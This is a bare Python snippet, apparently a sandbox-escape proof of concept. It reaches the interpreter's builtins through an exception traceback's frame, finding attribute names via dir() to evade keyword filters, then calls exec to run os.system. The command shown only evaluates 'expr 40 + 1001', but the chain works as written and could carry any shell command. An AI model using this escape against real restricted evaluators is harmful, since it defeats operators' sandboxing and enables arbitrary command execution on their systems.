try: 1/0
except Exception as e:
    t=e.__traceback__
    fr=[getattr(t,x) for x in dir(t) if x.endswith("frame")][0]
    b=[getattr(fr,x) for x in dir(fr) if x.endswith("builtins")][0]
    b["exec"]("import os;os.system('expr 40 + 1001')")
